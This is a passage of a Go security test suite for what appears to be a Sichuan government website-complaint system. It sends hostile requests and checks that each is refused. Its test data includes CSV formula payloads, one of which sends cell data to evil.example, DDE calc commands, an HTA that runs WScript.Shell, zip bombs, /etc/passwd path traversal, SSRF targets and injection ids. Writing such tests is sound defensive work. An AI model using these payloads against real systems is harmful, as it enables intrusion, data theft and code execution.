			change(fmt.Sprintf("guess-%d-pass", i))
		}
		return change(demoPassword)
	}})

	// 11. Server-side requests and operations endpoints. /metrics opens to METRICS_TOKEN only (and
	// not at all on a listener without one); what an administrator or a supervisor can make the
	// worker fetch (an account sheet's menu links, a webhook) reaches nothing of the server's own
	// network, the trap on loopback counting every connection.
	metered := newTestAppOn(t, w.Store, w.Clock, w.Redis, withMetrics)
	scrape := func(base, path, authorization string) func(w *hostileWorld) (*http.Response, string) {
		return func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", base+path, nil)
			if authorization != "" {
				r.Header.Set("Authorization", authorization)
			}
			return w.send(w.anon, r)
		}
	}
	add(attack{name: "metrics where no METRICS_TOKEN is set", refuse: true, check: noFigures, send: scrape(w.URL, "/metrics", "Bearer "+metricsToken)})
	for name, auth := range map[string]string{
		"without a token": "", "with a wrong token": "Bearer " + strings.Repeat("x", len(metricsToken)),
		"with the token and more": "Bearer " + metricsToken + "0", "with the token cut short": "Bearer " + metricsToken[:8],
		"with the token as Basic":      "Basic " + base64.StdEncoding.EncodeToString([]byte("prometheus:"+metricsToken)),
		"with the token and no scheme": metricsToken, "with an empty Bearer": "Bearer ",
	} {
		add(attack{name: "metrics " + name, refuse: true, check: noFigures, send: scrape(metered.URL, "/metrics", auth)})
	}
	add(attack{name: "metrics with the token in the query", refuse: true, check: noFigures, send: scrape(metered.URL, "/metrics?token="+metricsToken+"&access_token="+metricsToken, "")})
	trap := egresstest.NewRefused(t)
	var sheet strings.Builder
	sheet.WriteString("账号名称,平台,最后更新日期,互动功能,菜单链接,近期发文,实际运行\n")
	for i, tg := range trap.Targets {
		if strings.Contains(mustURL(tg.URL).Hostname(), ".") { // the sheet's reader takes only dotted hosts
			fmt.Fprintf(&sheet, "内网号%d,微信,%s,有,%s,,在线\n", i, w.Clock.Now().Format(time.DateOnly), tg.URL)
		}
	}
	add(attack{name: "account sheet whose menu links point inside", check: importFetchedNothing(trap), send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.adminPages, w.importRequest("内网.csv", sheet.String()))
	}})
	var gzw int64
	w.Store.SQLDB().QueryRow("SELECT id FROM units WHERE name = '四川省政府国有资产监督管理委员会'").Scan(&gzw)
	for _, tg := range trap.Targets {
		add(attack{name: "webhook to " + tg.Name, check: webhookFetchesNothing(trap, tg.URL), send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.formRequest("POST", "/admin/webhooks", url.Values{"unit_id": {fmt.Sprint(gzw)}, "url": {tg.URL}}, "same-origin"))
		}})
	}
	// 12. Merges and links. Unit staff cannot take a ticket past its deadline out of the rates by
	// linking it to another (it still counts as due and overdue, and its page offers no link), and
	// nobody links tickets about another page or of another category.
	late, primary, otherPage, otherCategory := w.linkCases()
	stillOverdue := func(w *hostileWorld, _ *http.Response, _ string) error { return w.stillOverdue(late) }
	add(attack{name: "link an overdue ticket through the API", refuse: true, check: stillOverdue, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+late+"/link", w.staffToken, `{"primary":"`+primary+`","text":"重复"}`))
	}})
	add(attack{name: "link an overdue ticket through its page", refuse: true, check: stillOverdue, send: func(w *hostileWorld) (*http.Response, string) {
		v := url.Values{"primary": {primary}, "text": {"重复"}, "request_key": {"hostile-link-1"}}
		return w.send(w.staffPages, w.formRequest("POST", "/staff/tickets/"+late+"/link", v, "same-origin"))
	}})
	add(attack{name: "the overdue ticket's page", check: func(w *hostileWorld, resp *http.Response, body string) error {
		if strings.Contains(body, `action="/staff/tickets/`+late+`/link"`) {
			return fmt.Errorf("the page offers unit staff the link form of a ticket past its deadline")
		}
		return w.stillOverdue(late)
	}, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/staff/tickets/"+late, nil)
		return w.send(w.staffPages, r)
	}})
	for _, c := range []struct{ name, no, primary, token string }{
		{"a ticket to one about another page", otherPage, w.gzwNo, w.staffToken},
		{"a ticket to one about another page, as the supervisor", otherPage, w.gzwNo, w.supToken},
		{"a ticket to one of another category", otherCategory, w.gzwNo, w.staffToken},
		{"a ticket to one of another category, as the supervisor", w.gzwNo, otherCategory, w.supToken},
		{"an overdue ticket to one about another page, as the supervisor", late, otherPage, w.supToken},
	} {
		add(attack{name: "link " + c.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+c.no+"/link", c.token, `{"primary":"`+c.primary+`"}`))
		}})
	}

	// 13. Another region's writes: every write of a supervisor, a unit's staff and a reviewer
	// (scopedWrites, scope_test.go), by 成都's people on an object of 绵阳 and of the province,
	// from its page and through the API: refused, and nothing written anywhere.
	cross := w.crossRegion()
	for _, sw := range scopedWrites(cross) {
		for _, region := range scopeRegions {
			obj := sw.setup(cross, region)
			for channel, wr := range map[string]func(string, string) write{"page": sw.page, "API": sw.api} {
				if wr == nil {
					continue
				}
				var before string
				add(attack{name: "another region's write: " + sw.name + " of " + region + " (" + channel + ")", refuse: true,
					send: func(w *hostileWorld) (*http.Response, string) {
						w.Clock.Advance(time.Minute) // a write would stamp a new time
						before = dataFingerprint(w.t, w.Store.SQLDB())
						return cross.send(sw.actor, wr(obj, region))
					},
					check: func(w *hostileWorld, resp *http.Response, body string) error {
						if resp.StatusCode != sw.want {
							return fmt.Errorf("%d %.200s, want %d", resp.StatusCode, body, sw.want)
						}
						if dataFingerprint(w.t, w.Store.SQLDB()) != before {
							return fmt.Errorf("refused with %d, yet something was written", resp.StatusCode)
						}
						return nil
					}})
			}
		}
	}

	// 14. Unbounded work: the rates of 0001-01-01 to 9999-12-31 as of the year 9999 built a
	// page of 117 MB for the lowest role. Periods over five years, before 2000 or over a year
	// ahead, and report times before 2000 or over a day ahead, are a 400 naming the problem in
	// Chinese, small, on the page, its exports and the API.
	for _, q := range []string{
		"from=0001-01-01&to=9999-12-31&as_of=9999-12-31T00:00:00Z", "from=2015-01-01&to=2025-03-25", "from=1900-01-01&to=1900-12-31",
		"from=2027-01-01&to=2027-12-31", "period=9999", "period=0001-01", "period=1999Q4", "as_of=9999-12-31T00:00:00Z",
		"as_of=0001-01-01T00:00:00Z", "as_of=1999-12-31T23:59:59%2B08:00", "period=year&as_of=2026-03-25T10:00:00%2B08:00",
	} {
		for _, extra := range []string{"", "&export=unit", "&export=category&format=csv", "&group=region&sort=-received"} {
			add(attack{name: "rates page ?" + q + extra, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				r, _ := http.NewRequest("GET", w.URL+"/staff/stats?"+q+extra, nil)
				return w.send(w.staffPages, r)
			}, check: boundedRefusal(false)})
		}
		for _, extra := range []string{"", "&format=xlsx", "&group_by=region"} {
			add(attack{name: "rates API ?" + q + extra, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				r, _ := http.NewRequest("GET", w.URL+"/api/v1/stats/completion?"+q+extra, nil)
				r.Header.Set("Authorization", "Bearer "+w.staffToken)
				return w.send(w.anon, r)
			}, check: boundedRefusal(true)})
		}
	}

	// 15. Published text: 留言选登 searched for fragments of the phone, ID card and e-mail in a
	// published ticket's description, guessed around the masked digits, full-width, in groups,
	// with LIKE's wildcards. Whatever a search lists must show the fragment in what it shows.
	w.publishedWithPersonalData()
	for _, q := range []string{"1380", "13800", "138001", "1380013", "13800138000", "0013", "00138000", "0138000", "1381", "138%8000",
		"138_0013", "138 0013 8000", "138-0013-8000", "１３８００１３", "1101051", "110105194912", "19491231", "1949", "1231002X",
		"11010519491231002x", "1101 0519 4912", "１９４９１２３１", "zhang", "zhang.san", "ng.san@", "%@example%", "138****8000", "002X"} {
		add(attack{name: "replies search " + q, payload: q, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/replies?"+url.Values{"q": {q}}.Encode(), nil)
			return w.send(w.anon, r)
		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
			return repliesShowWhatTheyMatch(q, resp, body)
		}})
	}

	// 16. Exports and uploads: descriptions a spreadsheet would run, then the CSV export; a
	// rectification report named .hta; sheets that inflate, to the account import.
	for i, formula := range []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `＝1+1`} {
		description := formula + " 页面内容错误，标记 zc-formula-" + fmt.Sprint(i)
		add(attack{name: "formula description " + fmt.Sprint(i), payload: description, send: func(w *hostileWorld) (*http.Response, string) {
			f := validFields()
			f["description"] = description
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/reports", "", jsonBody(f)))
		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
			return w.csvExportHoldsAsText(description, "zc-formula-"+fmt.Sprint(i))
		}})
	}
	rect := w.openRectification()
	hta := `<html><head><hta:application id="zc"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>`
	add(attack{name: "rectification report that is an HTA", refuse: true, payload: hta, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.reportUpload(rect, "整改报告.hta", []byte(hta)))
	}})
	add(attack{name: "rectification report named .hta", send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.reportUpload(rect, "整改报告.hta", []byte("%PDF-1.4\n整改情况报告\n%%EOF")))
	}, check: func(w *hostileWorld, resp *http.Response, body string) error {
		return w.reportServedSafely(rect, resp)
	}})
	for _, bomb := range []struct {
		name, reason string // the reason the refusal must give
		sheet        []byte
	}{
		{"an XLSX inflating to 64 MB", "解压后超过", xlsxBomb(t, 64<<20, 0, "")},
		{"an XLSX inflating to 64 MB, claiming 1 KB", "已损坏", xlsxBomb(t, 64<<20, 1<<10, "")},
		{"an XLSX with a row at 1,048,576", "第1048576行仍有内容", xlsxBomb(t, 0, 0, `<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>末行</t></is></c></row>`)},
	} {
		add(attack{name: "account import of " + bomb.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.accountImport(bomb.sheet))
		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
			if !strings.Contains(body, bomb.reason) {
				return fmt.Errorf("refused without saying %q: %.300s", bomb.reason, body)
			}
			return nil
		}})
	}

	// 17. Notice choices: the account page's form and the API's PUT with injections, invalid
	// UTF-8, kinds the role does not get, channels that do not exist, wrong types and oversized
	// lists, and the form from another site: each a 4xx, and the staff member's choices stay the
	// defaults.
	choicesKept := func(w *hostileWorld, _ *http.Response, _ string) error { return w.noticeChoicesAreTheDefaults() }
	for _, text := range append(append([]string{}, texts...), models.NoticeImportFinished, "ticket_new\x00", "TICKET_NEW", strings.Repeat("k", 5000)) {
		add(attack{name: "notice form kind " + text, refuse: true, payload: text, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"kind": {text}, "notice": {"email:" + text}}
			return w.send(w.staffPages, w.formRequest("POST", "/account/notices", v, "same-origin"))
		}})
		add(attack{name: "notice form box " + text, refuse: true, payload: text, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"kind": {models.NoticeTicketNew}, "notice": {text}}
			return w.send(w.staffPages, w.formRequest("POST", "/account/notices", v, "same-origin"))
		}})
		body, _ := json.Marshal(map[string]any{"preferences": []map[string]any{{"kind": text, "email": false, "webhook": false}}})
		add(attack{name: "notice API kind " + text, refuse: true, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/me/notification-preferences", w.staffToken, string(body)))
		}})
	}
	many := make([]map[string]any, 3000)
	for i := range many {
		many[i] = map[string]any{"kind": models.NoticeTicketNew, "email": false, "webhook": false}
	}
	huge, _ := json.Marshal(map[string]any{"preferences": many})
	for _, body := range []string{string(huge), `{"preferences":[{"kind":"ticket_new","email":1,"webhook":0}]}`, `{"preferences":{"kind":"ticket_new"}}`,
		`{"preferences":[{"kind":"ticket_new","email":false,"webhook":false}],"user_id":1}`, `{"preferences":[null]}`, `[]`, `null`} {
		add(attack{name: "notice API body " + body[:min(len(body), 60)], refuse: true, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/me/notification-preferences", w.staffToken, body))
		}})
	}
	add(attack{name: "notice form from another site", refuse: true, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
		v := url.Values{"kind": {models.NoticeTicketNew}}
		return w.send(w.staffPages, w.formRequest("POST", "/account/notices", v, "cross-site"))
	}})
	add(attack{name: "notice API without a token", refuse: true, check: choicesKept, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/me/notification-preferences", "", `{"preferences":[{"kind":"ticket_new","email":false,"webhook":false}]}`))
	}})

	// 21. Approval in the reviewer's stead (issue 18): 自贡's office has staff and no reviewer, a
	// reply of it waits for review. 泸州's supervisor approving it, 自贡's staff approving it
	// (also with a unit id forged into the body), 自贡's supervisor approving a ticket that is not
	// waiting for review, the province's supervisor approving past 国资委's reviewer: each refused,
	// page and API, nothing written. And the unit's review setting posted with forged unit ids,
	// values that are not a choice, by staff and a supervisor: refused, the setting and its
	// audit trail unchanged.
	for _, a := range w.reviewerlessAttacks(texts) {
		add(a)
	}

	// 20. The calendar across the new year: notices of a wrong year, with days of another year,
	// duplicate dates, malformed or truncated JSON, a file past the limit, and day changes with a
	// date that is no date: each a 4xx with its Chinese message, the calendar as shipped and no
	// deadline recounted.
	for _, a := range hostileCalendarAttacks() {
		add(a)
	}
	// 19. The registry's edits and its admin API (regedit): bad ids, unknown and oversized
	// fields, wrong types, bases that steal another site's host or are not http(s), injections
	// in the search, non-administrators and forms from another site. Each a 4xx (the searches a
	// 200 that finds nothing), and the registry as it was: no event recorded, the portal routed.
	var registryBefore string
	registryKept := func(w *hostileWorld, _ *http.Response, _ string) error {
		if registryBefore == "" {
			registryBefore = w.registryFingerprint()
		}
		if now := w.registryFingerprint(); now != registryBefore {
			return fmt.Errorf("the registry changed: %s → %s", registryBefore, now)
		}
		return nil
	}
	for _, id := range []string{"0", "-1", "abc", "1.5", "99999999999999999999", "1%20OR%201=1", "%00"} {
		for _, kind := range []string{"units", "websites", "accounts", "users"} {
			add(attack{name: "admin API GET " + kind + "/" + id, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
				return w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/"+kind+"/"+id, w.adminToken(), ""))
			}})
			add(attack{name: "admin API PUT " + kind + "/" + id, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
				return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/admin/"+kind+"/"+id, w.adminToken(), `{"name":"x"}`))
			}})
			add(attack{name: "registry form " + kind + "/" + id, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
				return w.send(w.adminPages, w.formRequest("POST", "/admin/registry/"+kind+"/"+id, url.Values{"name": {"x"}}, "same-origin"))
			}})
		}
	}
	portal := func(w *hostileWorld) string { return w.siteJSON("sc.gov.cn") }
	for _, body := range []func(w *hostileWorld) string{
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"bases":[`, `"bases":["https://gzw.sc.gov.cn/",`, 1)
		}, // steal
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"bases":[`, `"bases":["javascript:alert(1)",`, 1)
		},
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"bases":[`, `"bases":["ftp://www.sc.gov.cn/",`, 1)
		},
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"bases":[`, `"bases":["https://user:pw@evil.example/",`, 1)
		},
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"bases":[`, `"bases":[`+strings.Repeat(`"https://a.sc.gov.cn/x/",`, 60), 1)
		},
		func(w *hostileWorld) string { return strings.Replace(portal(w), `{`, `{"status":"closed",`, 1) },
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"name":"`, `"name":"`+strings.Repeat("名", 500), 1)
		},
		func(w *hostileWorld) string { return strings.Replace(portal(w), `"unit_id":`, `"unit_id":"`, 1) },
		func(w *hostileWorld) string { return strings.Replace(portal(w), `"unit_id":`, `"unit_id":999999`, 1) },
		func(w *hostileWorld) string {
			return strings.Replace(portal(w), `"kind":"portal"`, `"kind":"<script>"`, 1)
		},
		func(w *hostileWorld) string { return `{"name":"x"}{"name":"y"}` },
		func(w *hostileWorld) string { return "{\"name\":\"\xff\xfe\"}" },
		func(w *hostileWorld) string { return `{"bases":` + strings.Repeat("[", 70000) },
	} {
		add(attack{name: "admin API website edit", refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/admin/websites/"+w.siteID("sc.gov.cn"), w.adminToken(), body(w)))
		}})
	}
	for i, p := range texts {
		add(attack{name: fmt.Sprintf("admin API search #%d", i), payload: p, check: func(w *hostileWorld, resp *http.Response, body string) error {
			if resp.StatusCode == 200 && !strings.Contains(body, `"total":0`) {
				return fmt.Errorf("an injection found something: %.200s", body)
			}
			return registryKept(w, resp, body)
		}, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/units?q="+url.QueryEscape(p), w.adminToken(), ""))
		}})
		add(attack{name: fmt.Sprintf("registry list search #%d", i), payload: p, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.formRequest("GET", "/admin/registry/websites?q="+url.QueryEscape(p), nil, "same-origin"))
		}})
		add(attack{name: fmt.Sprintf("unit form name #%d", i), payload: p, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"name": {p}, "unit": {p}, "kind": {"department"}, "bases": {p}}
			return w.send(w.adminPages, w.formRequest("POST", "/admin/registry/websites/"+w.siteID("sc.gov.cn"), v, "same-origin"))
		}})
	}
	for _, q := range []string{"page=0", "page=-1", "page=abc", "size=0", "size=1e9", "page=99999999999999999999"} {
		add(attack{name: "admin API list " + q, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/websites?"+q, w.adminToken(), ""))
		}})
	}
	add(attack{name: "picks of an unknown kind", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.adminPages, w.formRequest("GET", "/staff/picks/password_hash?q=a", nil, "same-origin"))
	}})
	for _, who := range []string{"sc-supervisor", "gzw-staff"} {
		add(attack{name: "admin API unit edit by " + who, refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
			token := w.supToken
			if who == "gzw-staff" {
				token = w.staffToken
			}
			return w.send(w.anon, w.jsonRequest("PUT", "/api/v1/admin/websites/"+w.siteID("sc.gov.cn"), token, portal(w)))
		}})
	}
	add(attack{name: "registry form from another site", refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
		v := url.Values{"name": {"四川省人民政府（改）"}, "unit": {"四川省人民政府办公厅"}, "kind": {"portal"}, "bases": {"www.sc.gov.cn/"}}
		return w.send(w.adminPages, w.formRequest("POST", "/admin/registry/websites/"+w.siteID("sc.gov.cn"), v, "cross-site"))
	}})
	add(attack{name: "close a site without a token", refuse: true, check: registryKept, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/admin/websites/"+w.siteID("sc.gov.cn")+"/close", "", ""))
	}})

	// 18. Registry import and export: every text in a user's role and a site's address, sheets
	// that inflate or are no sheet, uploads and confirmations by a unit's staff and from another
	// site, plans that are not there, export names that climb: each a 4xx with the reason in
	// Chinese, the text escaped, and nothing kept or written.
	untouched := func(w *hostileWorld, _ *http.Response, _ string) error { return w.registryImportedNothing() }
	for i, p := range texts {
		csvRow := func(cells ...string) []byte {
			var b bytes.Buffer
			cw := csv.NewWriter(&b)
			cw.Write([]string{"用户名", "姓名", "角色", "所属单位"})
			cw.Write(cells)
			cw.Flush()
			return b.Bytes()
		}
		add(attack{name: fmt.Sprintf("registry import role #%d", i), refuse: true, payload: p, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.registryUpload("用户.csv", csvRow("zc-hostile", "甲", p, "四川省教育厅")))
		}})
		add(attack{name: fmt.Sprintf("registry import site URL #%d", i), refuse: true, payload: p, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
			data := "网站名称,网站标识码,首页网址,主办单位\n甲,5100000097,\"" + strings.ReplaceAll(p, `"`, `""`) + "\",四川省教育厅\n"
			return w.send(w.adminPages, w.registryUpload("网站.csv", []byte(data)))
		}})
		add(attack{name: fmt.Sprintf("registry import file name #%d", i), refuse: true, payload: p, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.registryUpload(p+".csv", csvRow("zc-hostile", "甲", "站长", "四川省教育厅")))
		}})
	}
	for _, bomb := range []struct {
		name, file, reason string
		data               []byte
	}{
		{"an XLSX inflating to 64 MB", "登记.xlsx", "解压后超过", xlsxBomb(t, 64<<20, 0, "")},
		{"an XLSX inflating to 64 MB, claiming 1 KB", "登记.xlsx", "已损坏", xlsxBomb(t, 64<<20, 1<<10, "")},
		{"an XLSX with a row at 1,048,576", "登记.xlsx", "第1048576行仍有内容", xlsxBomb(t, 0, 0, `<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>末行</t></is></c></row>`)},
		{"17 MB", "登记.csv", "文件超过 16 MB", bytes.Repeat([]byte("a,"), 17<<19)},
		{"a file that is no sheet", "登记.xlsx", "无法读取XLSX文件", []byte("MZ\x90\x00not a workbook")},
		{"an executable by name", "登记.exe", "不支持的文件类型", []byte("MZ")},
	} {
		add(attack{name: "registry import of " + bomb.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.registryUpload(bomb.file, bomb.data))
		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
			if !strings.Contains(body, bomb.reason) {
				return fmt.Errorf("refused without saying %q: %.300s", bomb.reason, body)
			}
			return w.registryImportedNothing()
		}})
	}
	goodSheet := []byte("用户名,姓名,角色,所属单位\nzc-hostile,甲,经办人,四川省教育厅\n")
	add(attack{name: "registry import by a unit's staff", refuse: true, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.staffPages, w.registryUpload("用户.csv", goodSheet))
	}})
	add(attack{name: "registry import from another site", refuse: true, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
		req := w.registryUpload("用户.csv", goodSheet)
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		return w.send(w.adminPages, req)
	}})
	for _, id := range []string{"0", "-1", "99999999", "1e3", "1%20OR%201=1", "%2e%2e", strings.Repeat("9", 40)} {
		add(attack{name: "registry confirm of plan " + id, refuse: true, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.formRequest("POST", "/admin/registry/import/"+id+"/confirm", nil, "same-origin"))
		}})
		add(attack{name: "registry confirm by staff of plan " + id, refuse: true, check: untouched, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.staffPages, w.formRequest("POST", "/admin/registry/import/"+id+"/confirm", nil, "same-origin"))
		}})
	}
	for _, name := range []string{"..%2f..%2fetc%2fpasswd", "registry.xlsx%00.csv", "users.csv.exe", "%2e%2e.csv", "USERS.CSV", "users"} {
		add(attack{name: "registry export " + name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/admin/registry/export/"+name, nil)
			return w.send(w.adminPages, r)
		}})
	}
	add(attack{name: "registry export by a unit's staff", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/admin/registry/export/users.csv", nil)
		return w.send(w.staffPages, r)
	}})

	// 22. The registry import through the JSON API (forms): files that are no sheet, inflate or
	// are too large (with and without a Content-Length), sheets with problems, other roles and no
	// token, confirmations of plans that are not there or are another administrator's: each a
	// 4xx with a Chinese JSON error, and nothing kept or written.
	if _, err := w.Store.CreateUser(t.Context(), models.UserSpec{Username: "zc-admin-22", DisplayName: "另一管理员",
		Role: models.RoleAdmin, RegionCode: "510000"}, demoPassword); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []struct {
		name, file, reason string
		status             int
		data               []byte
	}{
		{"an XLSX inflating to 64 MB", "登记.xlsx", "解压后超过", 400, xlsxBomb(t, 64<<20, 0, "")},
		{"a file that is no sheet", "登记.xlsx", "无法读取XLSX文件", 400, []byte("MZ\x90\x00not a workbook")},
		{"an executable by name", "登记.exe", "不支持的文件类型", 400, []byte("MZ")},
		{"a sheet of nothing known", "登记.csv", "无法识别的工作表", 422, []byte("甲,乙\n1,2\n")},
		{"a user without a unit", "用户.csv", "所属单位", 422, []byte("用户名,姓名,角色,所属单位\nzc-hostile,甲,经办人,\n")},
	} {
		add(attack{name: "registry import API of " + bad.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.registryAPIUpload(w.adminToken(), bad.file, bad.data))
		}, check: apiRefusal(bad.status, bad.reason)})
	}
	for _, body := range []struct{ name, query, ctype, body, reason string }{
		{"a CSV body of no kind", "", "text/csv", "用户名,姓名,角色,所属单位\n", "?kind="},
		{"a CSV body of an unknown kind", "?kind=../users", "text/csv", "用户名,姓名,角色,所属单位\n", "?kind="},
		{"an empty CSV body", "?kind=users", "text/csv", "", "正文为空"},
		{"a JSON body", "?kind=users", "application/json", `{"username":"zc-hostile"}`, "CSV"},
		{"a broken multipart body", "", "multipart/form-data; boundary=zz", "--zz\r\nContent-Disposition: form-data; name=\"file\"", "请选择"},
		{"a URL that is not http(s)", "?kind=websites", "text/csv", "网站名称,网站标识码,首页网址,主办单位\n甲,5100000097,javascript:alert(1),四川省教育厅\n", "首页网址"},
	} {
		add(attack{name: "registry import API with " + body.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			req := w.jsonRequest("POST", "/api/v1/admin/registry/imports"+body.query, w.adminToken(), body.body)
			req.Header.Set("Content-Type", body.ctype)
			return w.send(w.anon, req)
		}, check: apiRefusal(0, body.reason)})
	}
	big := bytes.Repeat([]byte("a,"), 17<<19)
	add(attack{name: "registry import API of a 17 MB body", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		req := w.jsonRequest("POST", "/api/v1/admin/registry/imports?kind=users", w.adminToken(), "")
		req.Body, req.ContentLength = io.NopCloser(bytes.NewReader(big)), int64(len(big))
		req.Header.Set("Content-Type", "text/csv")
		return w.send(w.anon, req)
	}, check: apiRefusal(http.StatusRequestEntityTooLarge, "16 MB")})
	add(attack{name: "registry import API of a 17 MB body, chunked", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		req := w.jsonRequest("POST", "/api/v1/admin/registry/imports?kind=users", w.adminToken(), "")
		req.Body, req.ContentLength = io.NopCloser(io.MultiReader(bytes.NewReader(big))), -1
		req.Header.Set("Content-Type", "text/csv")
		return w.send(w.anon, req)
	}, check: apiRefusal(http.StatusRequestEntityTooLarge, "16 MB")})
	add(attack{name: "registry import API of a 17 MB multipart file", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.registryAPIUpload(w.adminToken(), "用户.csv", big))
	}, check: apiRefusal(http.StatusRequestEntityTooLarge, "16 MB")})
	goodAPISheet := "用户名,姓名,角色,所属单位\nzc-hostile,甲,经办人,四川省教育厅\n"
	for _, who := range []string{"gzw-staff", "gzw-reviewer", "sc-supervisor", ""} {
		status := http.StatusForbidden
		if who == "" {
			status = http.StatusUnauthorized
		}
		token := func(w *hostileWorld) string {
			if who == "" {
				return ""
			}
			return w.roleToken(who)
		}
		add(attack{name: "registry import API by " + who, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			req := w.jsonRequest("POST", "/api/v1/admin/registry/imports?kind=users", token(w), goodAPISheet)
			req.Header.Set("Content-Type", "text/csv")
			return w.send(w.anon, req)
		}, check: apiRefusal(status, "")})
		add(attack{name: "registry import API export by " + who, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/registry/export?format=csv&kind=users", token(w), ""))
		}, check: apiRefusal(status, "")})
		add(attack{name: "registry import API confirm by " + who, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/admin/registry/imports/"+w.foreignPlan()+"/confirm", token(w), ""))
		}, check: foreignPlanKept(status)})
	}
	for _, id := range []string{"0", "-1", "99999999", "1e3", "1%20OR%201=1", "%2e%2e", strings.Repeat("9", 40)} {
		add(attack{name: "registry import API confirm of plan " + id, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/admin/registry/imports/"+id+"/confirm", w.adminToken(), ""))
		}, check: foreignPlanKept(http.StatusNotFound)})
	}
	// Another administrator's plan: not read, not confirmed.
	add(attack{name: "registry import API read of another admin's plan", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/registry/imports/"+w.foreignPlan(), w.adminToken(), ""))
	}, check: foreignPlanKept(http.StatusNotFound)})
	add(attack{name: "registry import API confirm of another admin's plan", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/admin/registry/imports/"+w.foreignPlan()+"/confirm", w.adminToken(), ""))
	}, check: foreignPlanKept(http.StatusNotFound)})

	// 25. Inspection rule entries (issue 20): injections and bytes that are not UTF-8 as a rule's
